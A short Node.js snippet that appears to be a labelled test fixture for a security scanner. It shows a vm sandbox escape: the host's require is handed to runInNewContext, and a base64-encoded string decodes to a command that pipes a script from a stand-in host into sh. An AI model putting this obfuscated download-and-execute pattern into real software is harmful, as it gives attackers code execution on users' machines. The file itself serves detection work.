// expect: category=code-generation min=80 context=plugin,package
// why: runInNewContext is given the host's require, so the "sandboxed" code can load anything.
const vm = require('node:vm');

const script = Buffer.from(
  'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cHM6Ly9kbC5leGFtcGxlL3Muc2ggfCBzaCcp',
  'base64'
).toString();

const context = { require, console, process };
vm.runInNewContext(script, context, { timeout: 1000 });
